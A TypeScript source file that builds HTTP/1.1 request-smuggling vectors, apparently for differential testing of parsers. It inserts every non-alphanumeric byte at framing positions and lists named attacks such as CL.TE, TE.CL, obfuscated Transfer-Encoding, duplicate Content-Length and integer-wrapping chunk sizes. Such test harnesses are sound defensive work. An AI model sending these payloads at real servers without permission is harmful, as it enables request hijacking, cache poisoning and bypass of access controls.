/** One stream of bytes that two servers may take apart in two ways. */
export interface Vector {
  readonly group: string;
  readonly name: string;
  readonly bytes: Buffer;
}

const POST = 'POST /a HTTP/1.1\r\nHost: a\r\n';
const CHUNKS = '\r\n\r\n5\r\nhello\r\n0\r\n\r\n';
const NEXT = 'GET /next HTTP/1.1\r\nHost: a\r\n\r\n';

/**
 * Where one byte is put in. The first six are the mutation classes of the tool Smuggler (github.com/defparam/smuggler,
 * MIT), stated here anew; the others do the same to what else frames or routes a message.
 */
const PLACES: Readonly<Record<string, (byte: string) => string>> = {
  'coding, before the name': (byte) => `${POST}${byte}Transfer-Encoding: chunked${CHUNKS}`,
  'coding, behind the name': (byte) => `${POST}Transfer-Encoding${byte}: chunked${CHUNKS}`,
  'coding, before the value': (byte) => `${POST}Transfer-Encoding:${byte}chunked${CHUNKS}`,
  'coding, behind the value': (byte) => `${POST}Transfer-Encoding: chunked${byte}${CHUNKS}`,
  'coding, behind another line': (byte) => `${POST}X: X${byte}Transfer-Encoding: chunked${CHUNKS}`,
  'line end, in the middle': (byte) => `${POST}X: X\r${byte}Transfer-Encoding: chunked${CHUNKS}`,
  'line end, before LF': (byte) => `${POST}X: X${byte}\nTransfer-Encoding: chunked${CHUNKS}`,
  'length, before the value': (byte) => `${POST}Content-Length:${byte}5\r\n\r\nhello${NEXT}`,
  'length, behind the value': (byte) => `${POST}Content-Length: 5${byte}\r\n\r\nhello${NEXT}`,
  'length, behind the name': (byte) => `${POST}Content-Length${byte}: 5\r\n\r\nhello${NEXT}`,
  'chunk size, before': (byte) => `${POST}Transfer-Encoding: chunked\r\n\r\n${byte}5\r\nhello\r\n0\r\n\r\n`,
  'chunk size, behind': (byte) => `${POST}Transfer-Encoding: chunked\r\n\r\n5${byte}\r\nhello\r\n0\r\n\r\n`,
  'chunk, behind the data': (byte) =>
    `${POST}Transfer-Encoding: chunked\r\n\r\n5\r\nhello${byte}\r\n0\r\n\r\n`,
  'last chunk, behind': (byte) => `${POST}Transfer-Encoding: chunked\r\n\r\n0\r\n${byte}\r\n${NEXT}`,
  method: (byte) => `PUT${byte} /a HTTP/1.1\r\nHost: a\r\n\r\n`,
  target: (byte) => `GET /a${byte}b HTTP/1.1\r\nHost: a\r\n\r\n`,
  version: (byte) => `GET /a HTTP/1.1${byte}\r\nHost: a\r\n\r\n`,
  host: (byte) => `GET /a HTTP/1.1\r\nHost: a${byte}b\r\n\r\n`,
  'before the request': (byte) => `${byte}GET /a HTTP/1.1\r\nHost: a\r\n\r\n`,
  'between requests': (byte) => `${NEXT}${byte}${NEXT}`,
};

const SMUGGLED = 'GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n';
const both = (coding: string): string => `${POST}Content-Length: 5\r\n${coding}\r\n\r\n0\r\n\r\n${SMUGGLED}`;

/** Classes of attack that are in no single byte: RFC 9112 section 11.2, and the advisories named. */
const ATTACKS: Readonly<Record<string, string>> = {
  'CL.TE': both('Transfer-Encoding: chunked'),
  'TE.CL': `${POST}Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n24\r\n${SMUGGLED}\r\n0\r\n\r\n`,
  'TE.TE, two lines': `${POST}Transfer-Encoding: chunked\r\nTransfer-Encoding: x${CHUNKS}`,
  'TE.TE, two lines, chunked last': `${POST}Transfer-Encoding: x\r\nTransfer-Encoding: chunked${CHUNKS}`,
  'TE.TE, a list': `${POST}Transfer-Encoding: x, chunked${CHUNKS}`,
  'TE.TE, chunked first': `${POST}Transfer-Encoding: chunked, x${CHUNKS}`,
  'TE.TE, identity': `${POST}Transfer-Encoding: identity\r\nContent-Length: 5\r\n\r\nhello`,
  'TE.TE, chunked twice': `${POST}Transfer-Encoding: chunked, chunked${CHUNKS}`,
  'TE.TE, part of the word': `${POST}Transfer-Encoding: chunk${CHUNKS}`,
  'TE.TE, quoted': `${POST}Transfer-Encoding: "chunked"${CHUNKS}`,
  'TE.TE, upper case': `${POST}TRANSFER-ENCODING: CHUNKED${CHUNKS}`,
  'TE.TE, folded': `${POST}Transfer-Encoding:\r\n chunked${CHUNKS}`,
  'TE in HTTP/1.0': `POST /a HTTP/1.0\r\nHost: a\r\nTransfer-Encoding: chunked${CHUNKS}`,
  'TE under another name': both('Transfer_Encoding: chunked'),
  'CL.CL, different': `${POST}Content-Length: 5\r\nContent-Length: 0\r\n\r\nhello`,
  'CL.CL, equal': `${POST}Content-Length: 5\r\nContent-Length: 5\r\n\r\nhello`,
  'CL.CL, a list': `${POST}Content-Length: 5, 5\r\n\r\nhello`,
  'CL with a leading zero': `${POST}Content-Length: 05\r\n\r\nhello`,
  'CL in hexadecimal': `${POST}Content-Length: 0x5\r\n\r\nhello`,
  'CL that wraps at 2^32': `${POST}Content-Length: 4294967301\r\n\r\nhello`,
  'CL that wraps at 2^64': `${POST}Content-Length: 18446744073709551621\r\n\r\nhello`,
  'CL.0': `GET /a HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\nhello${NEXT}`,
  'chunk size that wraps at 2^64': `${POST}Transfer-Encoding: chunked\r\n\r\n10000000000000005\r\nhello\r\n0\r\n\r\n`,
  'chunk size that wraps at 2^32': `${POST}Transfer-Encoding: chunked\r\n\r\n100000005\r\nhello\r\n0\r\n\r\n`,
  'chunk size with zeros': `${POST}Transfer-Encoding: chunked\r\n\r\n0000000000005\r\nhello\r\n0\r\n\r\n`,
  'chunk size with 0x': `${POST}Transfer-Encoding: chunked\r\n\r\n0x5\r\nhello\r\n0\r\n\r\n`,
  'chunk extension': `${POST}Transfer-Encoding: chunked\r\n\r\n5;a=b\r\nhello\r\n0\r\n\r\n`,
  'chunk extension, quoted': `${POST}Transfer-Encoding: chunked\r\n\r\n5;a="b;c"\r\nhello\r\n0\r\n\r\n`,
  'chunk extension with LF': `${POST}Transfer-Encoding: chunked\r\n\r\n5;\nxx\r\nhello\r\n0\r\n\r\n`,
  'chunk longer than its size': `${POST}Transfer-Encoding: chunked\r\n\r\n4\r\nhello\r\n0\r\n\r\n`,
  'chunk without its line end': `${POST}Transfer-Encoding: chunked\r\n\r\n5\r\nhello0\r\n\r\n`,
  'trailer that frames': `${POST}Transfer-Encoding: chunked\r\n\r\n0\r\nContent-Length: 40\r\n\r\n${NEXT}`,
  'trailer that routes': `${POST}Transfer-Encoding: chunked\r\n\r\n0\r\nHost: b\r\n\r\n`,
  'trailer that may be one': `${POST}Transfer-Encoding: chunked\r\n\r\n0\r\nX-Sum: b\r\n\r\n${NEXT}`,
  'two hosts': `GET /a HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n`,
  'two hosts, different case': `GET /a HTTP/1.1\r\nHost: a\r\nhoST: a\r\n\r\n`,
  'no host': 'GET /a HTTP/1.1\r\n\r\n',
  'no host, HTTP/1.0': 'GET /a HTTP/1.0\r\n\r\n',
  'host against target': `GET http://b/a HTTP/1.1\r\nHost: a\r\n\r\n`,
  'host with user information': `GET /a HTTP/1.1\r\nHost: b@a\r\n\r\n`,
  'host folded': `GET /a HTTP/1.1\r\nX: y\r\n Host: b\r\nHost: a\r\n\r\n`,
  'all line ends LF': `GET /a HTTP/1.1\nHost: a\n\n`,
  'a CR for a line end': `GET /a HTTP/1.1\r\nHost: a\r\nX: y\rContent-Length: 5\r\n\r\nhello`,
  'two spaces in the request line': `GET  /a HTTP/1.1\r\nHost: a\r\n\r\n`,
  'a second version': `GET /a HTTP/1.1 HTTP/1.1\r\nHost: a\r\n\r\n`,
  'HTTP/0.9': 'GET /a\r\n\r\n',
  'HTTP/1.2': `GET /a HTTP/1.2\r\nHost: a\r\n\r\n`,
  'options of a connection that remove a field': `GET /a HTTP/1.1\r\nHost: a\r\nConnection: close, authorization\r\n\r\n`,
  'another expectation': `${POST}Expect: 200-ok\r\nContent-Length: 0\r\n\r\n`,
  pipelined: `${NEXT}${POST}Content-Length: 5\r\n\r\nhello${NEXT}`,
};

/** Bytes that are put in: all but most letters and digits, which are alike to every parser. */
const BYTES = Array.from({ length: 256 }, (_, code) => code).filter(
  (code) => !/[b-eg-wyzB-EG-WYZ2-8]/.test(String.fromCharCode(code)),
);

/** All vectors. */
export function smugglingVectors(): readonly Vector[] {
  const bytes = Object.entries(PLACES).flatMap(([group, put]) =>
    BYTES.map((code) => ({
      group,
      name: `0x${code.toString(16).padStart(2, '0')}`,
      bytes: Buffer.from(put(String.fromCharCode(code)), 'latin1'),
    })),
  );
  const attacks = Object.entries(ATTACKS).map(([name, raw]) => ({
    group: 'attack',
    name,
    bytes: Buffer.from(raw, 'latin1'),
  }));
  return [...bytes, ...attacks];
}
